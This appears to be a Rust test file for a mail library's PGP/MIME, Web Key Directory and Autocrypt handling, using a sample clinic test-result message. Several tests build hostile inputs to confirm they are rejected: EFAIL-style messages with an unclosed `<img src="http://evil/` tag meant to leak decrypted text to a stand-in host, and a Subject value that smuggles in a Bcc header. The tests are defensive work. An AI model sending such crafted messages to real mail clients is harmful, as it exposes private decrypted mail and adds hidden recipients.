//! Keys and ciphertext in mail: PGP/MIME, Web Key Directory, Autocrypt.

use model::Address;
use seal::pgp::autocrypt::{self, Preference};
use seal::pgp::{
    Letter, MimeOpened, PgpError, SecretKey, Version, encrypt, mime_encrypt, mime_open, wkd,
};

use super::forge::{Forge, says};
use super::world::{TODAY, dice, only, person};

const MESSAGE: &str = "From: lee@clinic.example\r\nTo: pat@home.example\r\n\
    Subject: Your HIV test\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\
    Message-ID: <1@clinic.example>\r\n\r\nIt is negative.\r\n";

fn sealed(to: &SecretKey) -> String {
    let letter = Letter {
        message: MESSAGE.as_bytes(),
        entity: None,
        subject_outside: "...",
    };
    let bytes = mime_encrypt(&letter, &[to.public()], None, TODAY, &dice(2)).expect("sealed");
    String::from_utf8(bytes).expect("text")
}

fn open(message: &str, with: &SecretKey) -> Result<MimeOpened, PgpError> {
    mime_open(message.as_bytes(), &[with], &[], TODAY)
}

fn is_mixed(message: &str, with: &SecretKey) -> bool {
    matches!(open(message, with), Ok(MimeOpened::Mixed))
}

#[test]
fn a_sealed_message_shows_who_writes_to_whom_and_nothing_else() {
    let pat = person("pat", Version::V4);
    let message = sealed(&pat);
    assert!(message.contains("From: lee@clinic.example\r\n"));
    assert!(message.contains("Subject: ...\r\n"));
    assert!(message.contains("protocol=\"application/pgp-encrypted\""));
    for secret in ["HIV", "negative", "charset"] {
        assert!(!message.contains(secret));
    }
    let Ok(MimeOpened::Opened(opened)) = open(&message, &pat) else {
        panic!("it is for Pat");
    };
    let entity = String::from_utf8(opened.content).expect("text");
    assert_eq!(
        entity,
        "Content-Type: text/plain; charset=utf-8\r\n\r\nIt is negative.\r\n"
    );
}

#[test]
fn an_entity_with_its_own_header_is_sealed_as_it_is() {
    let pat = person("pat", Version::V4);
    let entity = b"Content-Type: text/plain; hp=\"cipher\"\r\nSubject: real\r\n\r\nHello\r\n";
    let letter = Letter {
        message: MESSAGE.as_bytes(),
        entity: Some(entity),
        subject_outside: "[...]\r\nBcc: eve@evil.example",
    };
    let bytes = mime_encrypt(&letter, &[pat.public()], None, TODAY, &dice(2)).expect("sealed");
    let message = String::from_utf8(bytes).expect("text");
    assert!(!message.contains("\r\nBcc:"));
    let Ok(MimeOpened::Opened(opened)) = open(&message, &pat) else {
        panic!("it is for Pat");
    };
    assert_eq!(opened.content, entity);
}

#[test]
fn ciphertext_beside_or_inside_anything_stays_closed() {
    let pat = person("pat", Version::V4);
    let message = sealed(&pat);
    let (header, body) = message.split_once("\r\n\r\n").expect("a header");
    let boundary = body.lines().next().expect("a line");
    // EFAIL's direct exfiltration: a picture's address that the ciphertext would complete
    let html = format!("{boundary}\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil/\r\n");
    let wrapped = format!(
        "From: x@x.example\r\nContent-Type: multipart/mixed; boundary=o\r\n\r\n--o\r\n\
         Content-Type: text/html\r\n\r\n<img src=\"http://evil/\r\n--o\r\n{}\r\n--o--\r\n",
        message.replace("From: lee@clinic.example\r\n", "")
    );
    for bent in [
        format!("{header}\r\n\r\n{html}{body}"),
        format!(
            "{header}\r\n\r\n{}",
            body.replace("--\r\n", &format!("\r\n{html}{boundary}--\r\n"))
        ),
        format!("{header}\r\n\r\nRead this first:\r\n{body}"),
        format!("{message}and this last\r\n"),
        message.replace("multipart/encrypted", "multipart/mixed"),
        message.replace("Version: 1", "Version: 1 <b>"),
        message.replace("octet-stream", "html"),
        message.replace("-----END PGP", "trailing\r\n-----END PGP") + "x",
        format!("Content-Type: text/html\r\n{message}"),
        wrapped,
    ] {
        assert!(is_mixed(&bent, &pat), "{bent}");
    }
    assert!(matches!(open(MESSAGE, &pat), Ok(MimeOpened::NotEncrypted)));
}

#[test]
fn ciphertext_in_a_text_is_opened_only_when_it_is_the_whole_text() {
    let pat = person("pat", Version::V4);
    let armored = encrypt(b"It is negative.", &[pat.public()], None, TODAY, &dice(2));
    let armored = String::from_utf8(armored.expect("sealed")).expect("text");
    let plain = |body: &str| format!("From: lee@clinic.example\r\n\r\n{body}");
    let Ok(MimeOpened::Opened(opened)) = open(&plain(&armored), &pat) else {
        panic!("it is the whole text");
    };
    assert_eq!(opened.content, b"It is negative.");
    for body in [
        format!("Dear Pat,\r\n{armored}"),
        format!("{armored}-- \r\nLee"),
        format!("{armored}{armored}"),
    ] {
        assert!(is_mixed(&plain(&body), &pat), "{body}");
    }
}

#[test]
fn a_directory_keeps_keys_by_a_hash_that_all_agree_on() {
    // the draft's own example; the others by gpg-wks-client
    for (local, hash) in [
        ("Joe.Doe", "iy9q119eutrkn8s1mk4r39qejnbu3n5q"),
        ("joe.doe", "iy9q119eutrkn8s1mk4r39qejnbu3n5q"),
        ("patrice.lumumba", "gzfxrwe6o9qrddujrwnjran6nh41hfex"),
        ("a", "o556ep94wsu93ak7dzqmu4zk7e5zc37a"),
    ] {
        assert_eq!(wkd::hash(local), hash);
    }
    let lookup = wkd::lookup(&Address::parse("Joe.Doe@Example.ORG").expect("an address"));
    assert_eq!(
        lookup.advanced,
        "https://openpgpkey.example.org/.well-known/openpgpkey/example.org/hu/\
         iy9q119eutrkn8s1mk4r39qejnbu3n5q?l=Joe.Doe"
    );
    assert_eq!(
        lookup.direct,
        "https://example.org/.well-known/openpgpkey/hu/iy9q119eutrkn8s1mk4r39qejnbu3n5q?l=Joe.Doe"
    );
}

#[test]
fn a_directory_answers_for_the_asked_address_alone() {
    let mut forge = Forge::new(says("cs"));
    forge.name("boss@bank.example", &[says("cs")]);
    let asked = Address::parse("dana@clinic.example").expect("an address");
    let lee = person("lee", Version::V4);
    let answer = [forge.public_bytes(), lee.public().binary()].concat();
    let keys = wkd::answer(&answer, &asked).expect("keys");
    assert_eq!(keys.len(), 1);
    assert_eq!(keys[0].emails(), ["dana@clinic.example"]);
}

#[test]
fn a_key_travels_in_the_header_of_its_owners_mail() {
    let lee = person("lee", Version::V4);
    let address = Address::parse("lee@clinic.example").expect("an address");
    let field = autocrypt::field(&address, lee.public(), Preference::Mutual).expect("it fits");
    let text = String::from_utf8(field).expect("text");
    assert!(text.lines().all(|line| line.len() <= 78));
    let value = text.strip_prefix("Autocrypt:").expect("its name");
    let read = |values: &[&str], from: &str| {
        let from = Address::parse(from).expect("an address");
        autocrypt::read(values.iter().map(|value| value.as_bytes()), &from)
    };
    let offer = read(&[value], "Lee@clinic.example").expect("an offer");
    assert_eq!(offer.preference, Preference::Mutual);
    assert_eq!(offer.key, only(&lee.public().binary()));
    assert_eq!(read(&[value], "eve@clinic.example"), None);
    assert_eq!(read(&[value, value], "lee@clinic.example"), None);
    let unknown = value.replacen("addr", "_later=1; addr", 1);
    assert!(read(&[&unknown], "lee@clinic.example").is_some());
    let critical = value.replacen("addr", "later=1; addr", 1);
    assert_eq!(read(&[&critical], "lee@clinic.example"), None);
}
